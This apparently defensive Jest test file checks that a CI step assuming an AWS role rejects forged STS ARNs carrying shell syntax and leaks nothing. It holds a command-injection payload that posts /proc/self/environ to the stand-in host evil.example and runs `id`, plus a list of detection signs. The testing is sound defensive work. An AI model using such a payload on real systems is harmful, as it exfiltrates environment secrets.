import { describe, expect, test } from '@jest/globals'
import type { Failure } from '../../src/core/failure.ts'
import { type InProcessStep, inProcessStep } from '../lab/inProcessStep.ts'
import { events } from '../lab/transcript.ts'

const ROLE = 'arn:aws:iam::123456789012:role/deploy'
const PRINCIPAL = 'arn:aws:sts::123456789012:assumed-role'
const SHELL = '$(curl$IFS-d@/proc/self/environ$IFS"evil.example");`id`;'
const SIGNS = ['curl', '$IFS', '`id`', 'evil.example']

/** A success response for a session of this principal. */
const session = (arn: string): string => {
  const tag = (name: string, text: string): string => `<${name}>${text}</${name}>`
  const credentials = [
    tag('AccessKeyId', 'ASIALAB'),
    tag('SecretAccessKey', 'lab/secret+'),
    tag('SessionToken', 'lab-session=='),
    tag('Expiration', '2026-09-21T15:13:20Z'),
  ].join('')
  const user = tag('AssumedRoleId', 'AROALAB:nightly') + tag('Arn', arn)
  const result = tag('Credentials', credentials) + tag('AssumedRoleUser', user)
  const action = 'AssumeRoleWithWebIdentity'
  return tag(`${action}Response`, tag(`${action}Result`, result))
}

/** A step whose STS claims that the session is of this principal. */
async function step(
  arn: string,
  inputs: Readonly<Record<string, string>>,
): Promise<{ readonly s: InProcessStep; readonly failure: Failure | undefined }> {
  const s = inProcessStep({
    fault: ({ url }) =>
      url.host.startsWith('sts.') ? { status: 200, body: session(arn) } : undefined,
  })
  const fixed = { from: 'aws', export: 'output', region: 'eu-central-1', 'session-name': 'nightly' }
  return { s, failure: await s.main({ role: ROLE, ...fixed, export: '[env, output]', ...inputs }) }
}

/** Everything that the step printed, stored, exported or remembered. */
const traces = ({ runtime }: InProcessStep): string =>
  JSON.stringify([
    runtime.transcript.filter(({ kind }) => kind !== 'request' && kind !== 'mask'),
    [...runtime.disk],
    [...runtime.state],
  ])

describe('an ARN from STS with shell syntax leaves no trace', () => {
  const forged = [
    ['path', `${PRINCIPAL}/${SHELL}/deploy/nightly`],
    ['account', 'arn:aws:sts::$IFS:assumed-role/deploy/nightly'],
    ['region', `arn:aws:sts:${SHELL}:123456789012:assumed-role/deploy/nightly`],
    ['session', `${PRINCIPAL}/deploy/${SHELL}`],
    ['role', `${PRINCIPAL}/${SHELL}/nightly`],
  ] as const
  const servers = [{}, { address: 'https://sts.lab.test' }]

  test.each(forged.flatMap(([part, arn]) => servers.map((server) => ({ part, arn, server }))))(
    'in its $part, from $server',
    async ({ arn, server }) => {
      const { s, failure } = await step(arn, server)
      expect(failure?.code).toBe('GUARD_FAILED')
      expect(events(s.runtime.transcript, 'expose')).toEqual([])
      for (const symptom of SIGNS) expect(`${failure?.message}${traces(s)}`).not.toContain(symptom)
    },
  )
})

test('the path of the role itself is accepted, and left out of the ARN that is exported', async () => {
  const role = `arn:aws:iam::123456789012:role/${SHELL}/deploy`
  const { s, failure } = await step(`${PRINCIPAL}/${SHELL}/deploy/nightly`, { role })
  expect(failure).toBeUndefined()
  const [exposed] = events(s.runtime.transcript, 'expose')
  expect(exposed?.outputs).toMatchObject({ arn: `${PRINCIPAL}/deploy/nightly` })
  for (const symptom of SIGNS)
    expect(JSON.stringify([exposed?.env, exposed?.outputs])).not.toContain(symptom)
  expect(s.record()).toMatchObject([{ id: `${PRINCIPAL}/deploy/nightly` }])
})
